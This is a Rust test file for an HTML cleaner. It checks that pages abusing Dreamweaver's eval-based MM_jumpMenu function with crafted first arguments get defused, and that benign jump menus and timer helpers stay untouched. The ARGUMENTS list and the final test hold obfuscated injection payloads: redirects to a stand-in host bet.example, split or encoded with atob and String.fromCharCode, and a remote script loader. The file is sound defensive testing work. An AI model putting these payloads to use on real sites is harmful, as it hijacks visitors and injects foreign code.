//! Attack suite for the caller's argument of a function that evaluates it as code (issue
//! 14, class 3; threats B1, B3, B4): Dreamweaver's `MM_jumpMenu(targ, selObj, restore)`
//! runs `eval(targ + ".location='" + … + "'")`, so its first argument is code, not data. A
//! page keeps the function as written and calls it with a crafted first argument, in an
//! `onchange=` handler (before or after the definition) or in a script: a statement that
//! leaves the site, split, decoded at run time or computed (`location.hash`, a cookie).
//! Each definition (single and double quoting, a `setTimeout` string, `MM_jumpMenuGo`'s
//! wrapper) meets each argument and each call site, on a news page and an error page. The
//! benign twins (window names and frame paths as real portals pass them) keep their bytes
//! with no event.

use crate::common;

use common::rewrite::{clean, clean_turn, site};

/// Definitions: the function that evaluates its first parameter as code.
const DEFINITIONS: &[&str] = &[
    "function MM_jumpMenu(targ,selObj,restore){ //v3.0\n  eval(targ+\".location='\"+selObj.options[selObj.selectedIndex].value+\"'\");\n  if (restore) selObj.selectedIndex=0;\n}",
    "function MM_jumpMenu(targ, selObj, restore) {\n  eval(targ + '.location=\"' + selObj.options[selObj.selectedIndex].value + '\"');\n  if (restore) selObj.selectedIndex = 0;\n}",
    "function MM_jumpMenu(targ,selObj,restore){ setTimeout(targ+\".location='\"+selObj.value+\"'\", 10); }",
    "function MM_jumpMenuX(targ,selObj,restore){ eval(targ+\".location='\"+selObj.options[selObj.selectedIndex].value+\"'\"); }\nfunction MM_jumpMenu(targ,selObj,restore){ MM_jumpMenuX(targ,selObj,restore); }",
];

/// Crafted first arguments, as JavaScript expressions (the literal search sees no URL).
const ARGUMENTS: &[&str] = &[
    r#""top['loc'+'ation']='/'+'/bet.example/';parent""#,
    r#""location.replace(atob('Ly9iZXQuZXhhbXBsZS8='));parent""#,
    r#""window.open('/'+'/bet.example/','_self')||parent""#,
    r#""(function(){var s=document.createElement('script');s.src='/'+'/bet.example/x.js';document.head.appendChild(s)})(),self""#,
    r#""eval(String.fromCharCode(108,111,99,97,116,105,111,110,61,39,47,47,98,101,116,46,101,120,97,109,112,108,101,47,39));top""#,
    "location.hash.slice(1)",
    "decodeURIComponent(document.cookie.split('t=')[1])",
    "this.getAttribute('data-t')",
];

/// Call sites: `@D` the definition script, `@C` the call `MM_jumpMenu(@A,this,0)`.
const PAGES: &[&str] = &[
    "<script>@D</script><select data-t=\"top\" onchange=\"@C\"><option value=\"/a\">A</option></select>",
    "<select data-t=\"top\" onchange=\"@C\"><option value=\"/a\">A</option></select><script>@D</script>",
    "<select id=\"s\"><option value=\"/a\">A</option></select><script>@D\ndocument.getElementById('s').onchange=function(){@C}</script>",
    "<script>@D</script><script>var s=document.getElementsByTagName('select')[0];s.addEventListener('change',function(){window.@C})</script><select><option value=\"/a\">A</option></select>",
];

/// A news page and an error page around the markup.
const FRAMES: &[&str] = &[
    "<p>Tin</p>@P<p>Hết</p>",
    "<h1>404</h1><p>Không tìm thấy</p>@P",
];

/// The page is defused: the definition or the crafted call is gone, with a script event.
fn defused(page: &str, def: &str, arg: &str, n: usize) -> bool {
    let (out, events) = clean_turn(&site(""), page, n);
    let call_left = out.contains(arg) || out.contains(&arg.replace('"', "&quot;"));
    let def_left = out.contains(def);
    !(call_left && def_left) && events.iter().any(|e| e.rule.starts_with("script."))
}

#[test]
fn crafted_arguments_of_code_parameters_are_removed() {
    let mut missed = Vec::new();
    let mut total = 0;
    for (d, def) in DEFINITIONS.iter().enumerate() {
        for (a, arg) in ARGUMENTS.iter().enumerate() {
            for (p, layout) in PAGES.iter().enumerate() {
                // Every argument meets every definition and every call site, in turns.
                if (d + a + p) % 2 == 1 && p != 0 {
                    continue;
                }
                let frame = FRAMES[(d + a + p) % FRAMES.len()];
                let call = format!("MM_jumpMenu({arg},this,0)");
                let call = match layout.contains("onchange=\"@C\"") {
                    true => call.replace('"', "&quot;"),
                    false => call,
                };
                let page = frame.replace("@P", &layout.replace("@D", def).replace("@C", &call));
                total += 1;
                let raw = arg.trim_matches('"');
                if !defused(&page, def, raw, total) {
                    missed.push(page);
                }
            }
        }
    }
    assert!(
        missed.is_empty(),
        "{} of {total} left in place:\n{}",
        missed.len(),
        missed[..missed.len().min(12)].join("\n")
    );
}

/// Real jump menus: the window or frame names old portals pass.
#[test]
fn window_and_frame_names_keep_their_bytes() {
    let s = site("");
    let options = "<option value=\"\">-- Liên kết --</option><option value=\"https://chinhphu.vn/\">Chính phủ</option><option value=\"/lien-he\">Liên hệ</option>";
    for (d, def) in DEFINITIONS.iter().enumerate() {
        for targ in [
            "'parent'",
            "'self'",
            "'top'",
            "'window'",
            "'parent.frames[\\'main\\']'",
            "'parent.mainFrame'",
            "'document'",
        ] {
            let handler = format!("MM_jumpMenu({targ},this,{})", d % 2).replace('\'', "&#39;");
            for page in [
                format!(
                    "<script>{def}</script><form name=\"f\"><select name=\"m\" onchange=\"{handler}\">{options}</select></form>"
                ),
                format!(
                    "<form><select onChange=\"{handler}\">{options}</select></form><script>{def}</script>"
                ),
            ] {
                let (out, events) = clean(&s, &page);
                assert_eq!(out, page, "changed: {events:?}");
                assert!(events.is_empty(), "{page}: {events:?}");
            }
        }
    }
}

/// A helper whose parameter a timer runs, given functions: the timer runs the function,
/// whose body is judged where it is written; a function that redirects still goes.
#[test]
fn functions_given_to_a_timer_helper_keep_their_bytes() {
    let s = site("");
    let helper = "function later(cb,ms){setTimeout(cb,ms||0)}";
    for call in [
        "later(function(){document.body.className+=' ready'})",
        "later(()=>{window.scrollTo(0,0)},200)",
        "function tick(){var d=new Date();document.title=d.getHours()}later(tick,1000)",
        "var show=function(){document.getElementById('menu').style.display='block'};later(show)",
    ] {
        let page = format!("<script>{helper}{call}</script><p>Tin tức</p>");
        let (out, events) = clean(&s, &page);
        assert_eq!(out, page, "changed: {events:?}");
        assert!(events.is_empty(), "{page}: {events:?}");
    }
    for call in [
        "later(function(){top.location='https://bet.example/'})",
        "function go(){top.location='//bet.example/'}later(go)",
        "later(\"top.location='//bet.example/'\")",
        "var go='top.location=\"//bet.example/\"';later(go)",
    ] {
        let page = format!("<script>{helper}{call}</script><p>Tin tức</p>");
        let (out, events) = clean(&s, &page);
        assert!(!out.contains("bet.example"), "{out}");
        assert!(!events.is_empty(), "{page}");
    }
}
